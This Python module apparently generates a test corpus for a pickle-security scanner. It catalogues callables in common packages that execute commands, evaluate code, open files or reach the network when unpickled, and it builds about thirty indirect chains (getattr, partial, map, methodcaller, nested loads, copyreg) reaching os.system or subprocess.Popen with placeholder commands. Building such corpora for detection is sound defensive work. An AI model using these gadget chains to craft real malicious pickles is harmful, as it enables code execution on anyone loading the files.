"""Callables of well-known packages that run code, touch files or reach the network when a pickle calls them.

Written as module:qualname, grouped by the arguments that they are given.
"""

from __future__ import annotations

from corpus.assembler import ADDRESS, COMMAND, PATH, SOURCE, Code, Value, call, name, payload

RUN_A_COMMAND = """
os:system posix:system nt:system os:popen os:execlp os:startfile subprocess:Popen subprocess:call subprocess:run
subprocess:check_call subprocess:check_output subprocess:getoutput subprocess:getstatusoutput
commands:getoutput popen2:popen3 platform:popen pty:spawn asyncio:create_subprocess_shell
asyncio.subprocess:create_subprocess_exec pip:main pip._internal:main pip._internal.cli.main:main
distutils.spawn:spawn setuptools._distutils.spawn:spawn numpy.distutils.exec_command:exec_command
torch.utils.collect_env:run torch.utils.collect_env:run_and_read_all uuid:_get_command_stdout
_osx_support:_read_output _aix_support:_read_cmd_output test.support.script_helper:assert_python_ok
multiprocessing.util:spawnv_passfds ctypes.util:_findLib_gcc pydoc:pipepager IPython:get_ipython
torch._inductor.codecache:compile_file pexpect:run sh:Command fabric:Connection paramiko:ProxyCommand
"""
RUN_SOURCE = """
builtins:exec builtins:eval builtins:compile builtins:__import__ __builtin__:eval __builtin__:execfile
timeit:timeit timeit:repeat timeit:main timeit:Timer cProfile:run cProfile:runctx profile:run
profile:Profile.run trace:Trace.run pdb:run pdb:runeval bdb:Bdb.run doctest:debug_script code:interact
code:InteractiveInterpreter.runcode codeop:compile_command runpy:run_module runpy:_run_code
runpy:_run_module_code idlelib.pyshell:ModifiedInterpreter.runcode idlelib.run:Executive.runcode
idlelib.autocomplete:AutoComplete.get_entity idlelib.calltip:get_entity
idlelib.debugobj:ObjectTreeItem.SetText numpy.testing._private.utils:runstring
numpy.testing:rundocs numpy.f2py:compile numpy.f2py.crackfortran:getlincoef
numpy.f2py.crackfortran:myeval numpy.f2py.crackfortran:param_eval numpy.f2py.diagnose:run_command
torch.jit.unsupported_tensor_ops:execWrapper torch.utils.bottleneck.__main__:run_cprofile
torch._dynamo.guards:GuardBuilder.get torch._inductor.codecache:PyCodeCache.load
torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression
torch.fx.graph_module:_exec_with_source torch.fx.graph_module:_forward_from_src
torch.utils._config_module:ConfigModule.load_config torch.utils.cpp_extension:load_inline
lib2to3.pgen2.pgen:ParserGenerator.make_label pandas:eval pandas.core.computation.eval:eval
pandas:DataFrame.query sympy:sympify sympy.parsing.sympy_parser:parse_expr
tensorflow.python.ops.script_ops:py_func yaml:unsafe_load jsonpickle:decode marshal:loads
IPython.core.interactiveshell:InteractiveShell.run_cell _testcapi:run_in_subinterp
_xxsubinterpreters:run_string nltk:data.load
"""
OPEN_A_PATH = """
runpy:run_path builtins:open io:open io:FileIO _io:FileIO codecs:open os:remove os:rmdir os:chmod os:open
shutil:rmtree shutil:move shutil:copyfile pathlib:Path.unlink pathlib:Path.write_text logging:FileHandler
logging.config:fileConfig logging.handlers:WatchedFileHandler ctypes:CDLL ctypes:PyDLL
ctypes:cdll.LoadLibrary numpy.ctypeslib:load_library zipimport:zipimporter zipfile:ZipFile tarfile:open
shelve:open dbm:open sqlite3:connect fileinput:input linecache:getlines site:addsitedir
importlib:import_module importlib.machinery:SourceFileLoader importlib.machinery:ExtensionFileLoader
importlib.util:spec_from_file_location imp:load_source imp:load_dynamic pkgutil:resolve_name pydoc:locate
torch.ops:load_library torch._ops:_Ops.load_library torch.classes:load_library torch:load
torch.serialization:load torch.jit:load torch.package:PackageImporter
torch._inductor.runtime.compile_tasks:_reload_python_module lib2to3.pgen2.grammar:Grammar.loadg
joblib:load pandas:read_pickle pandas.io.pickle:read_pickle pandas:read_csv numpy:load numpy:fromfile
numpy:save dill:load_module keras.models:load_model keras.saving:load_model mlflow.pyfunc:load_model
sklearn.datasets:load_svmlight_file distutils.file_util:write_file venv:create tempfile:NamedTemporaryFile
"""
OPEN_AN_ADDRESS = """
urllib.request:urlopen urllib.request:urlretrieve urllib:urlopen urllib2:urlopen webbrowser:open
webbrowser:open_new_tab http.client:HTTPSConnection socket:create_connection socket:socket
ssl:get_server_certificate ftplib:FTP smtplib:SMTP telnetlib:Telnet requests:get requests.api:post
httpx:get aiohttp.client:request torch.hub:load torch.hub:download_url_to_file
torch.hub:load_state_dict_from_url huggingface_hub:snapshot_download transformers:pipeline xmlrpc.client:ServerProxy
"""
CALL_LATER = """
builtins:breakpoint builtins:input builtins:globals builtins:vars threading:Thread multiprocessing:Process
concurrent.futures:ThreadPoolExecutor signal:signal atexit:register sys:settrace sys:setprofile
gc:get_objects sys:exit os:abort os:_exit os:fork asyncio:run unittest:main
"""
GROUPS: tuple[tuple[str, tuple[Value, ...]], ...] = (
    (RUN_A_COMMAND, (COMMAND,)),
    (RUN_SOURCE, (SOURCE,)),
    (OPEN_A_PATH, (PATH,)),
    (OPEN_AN_ADDRESS, (ADDRESS,)),
    (CALL_LATER, ()),
)


def plain() -> list[tuple[str, str, tuple[Value, ...]]]:
    """Each gadget with its arguments."""
    return [
        (*entry.split(":"), args)  # type: ignore[misc]
        for names, args in GROUPS
        for entry in names.split()
    ]


def chains(protocol: int) -> dict[str, Code]:
    """Gadgets that need another one: the dangerous name is an argument, or only comes about in the call."""

    def attribute(module: str, *path: str) -> Code:
        value = call("importlib", "import_module", (module,), protocol)
        for part in path:
            value = call("builtins", "getattr", (value, part), protocol)
        return value

    def invoke(function: Code, *args: Value) -> Code:
        from_tuple = call("operator", "methodcaller", ("__call__", *args), protocol)
        return call(
            "builtins", "next", (call("builtins", "map", (from_tuple, [function]), protocol),), protocol
        )

    system = name("os", "system", protocol)
    nested = payload(protocol)
    partial = call("functools", "partial", (system, COMMAND), protocol)
    code = call("marshal", "loads", (b"c\0inert, and no code object",), protocol)
    function = call("types", "FunctionType", (code, {}), protocol)
    return {
        "getattr_chain": invoke(attribute("os", "system"), COMMAND),
        "getattr_builtins": invoke(attribute("builtins", "__dict__", "get"), "exec"),
        "partial": invoke(partial),
        "partial_of_partial": invoke(call("functools", "partial", (partial,), protocol)),
        "reduce": call("functools", "reduce", (system, [COMMAND, COMMAND]), protocol),
        "map_list": call(
            "builtins", "list", (call("builtins", "map", (system, [COMMAND]), protocol),), protocol
        ),
        "filter_set": call(
            "builtins", "set", (call("builtins", "filter", (system, [COMMAND]), protocol),), protocol
        ),
        "starmap": call("itertools", "starmap", (system, [(COMMAND,)]), protocol),
        "methodcaller": invoke(call("operator", "methodcaller", ("system", COMMAND), protocol)),
        "attrgetter": call("operator", "attrgetter", ("system.__call__",), protocol),
        "itemgetter": call("operator", "itemgetter", ("exec",), protocol),
        "function_of_marshal": invoke(function),
        "code_type": call(
            "types", "CodeType", (0, 0, 0, 0, 0, 0, b"", (), (), (), "f", "n", 0, b""), protocol
        ),
        "method_type": call("types", "MethodType", (system, COMMAND), protocol),
        "pickle_loads": call("pickle", "loads", (nested,), protocol),
        "c_pickle_loads": call("_pickle", "loads", (nested,), protocol),
        "python2_pickle_loads": call("cPickle", "loads", (nested,), protocol),
        "pickle_loads_twice": call(
            "pickle", "loads", (call("pickle", "dumps", (nested,), protocol),), protocol
        ),
        "dill_loads": call("dill", "loads", (nested,), protocol),
        "dill_create_function": call("dill._dill", "_create_function", (code, {}), protocol),
        "dill_create_code": call("dill._dill", "_create_code", (b"inert",), protocol),
        "dill_import_module": call("dill._dill", "_import_module", ("os",), protocol),
        "dill_get_attr": call("dill._dill", "_get_attr", (attribute("os"), "system"), protocol),
        "cloudpickle_make_function": call("cloudpickle.cloudpickle", "_make_function", (code, {}), protocol),
        "cloudpickle_builtin_type": call("cloudpickle.cloudpickle", "_builtin_type", ("CodeType",), protocol),
        "cloudpickle_subimport": call("cloudpickle.cloudpickle", "subimport", ("os",), protocol),
        "cloudpickle_skeleton": call("cloudpickle.cloudpickle", "_make_skeleton_class", ("C", ()), protocol),
        "thread_target": call("threading", "Timer", (0, system, (COMMAND,)), protocol),
        "string_at": call("ctypes", "string_at", (4096, 8), protocol),
        "copyreg_newobj": call(
            "copyreg", "__newobj__", (name("subprocess", "Popen", protocol), COMMAND), protocol
        ),
        "reconstructor": call(
            "copyreg",
            "_reconstructor",
            (name("subprocess", "Popen", protocol), name("builtins", "object", protocol), None),
            protocol,
        ),
    }
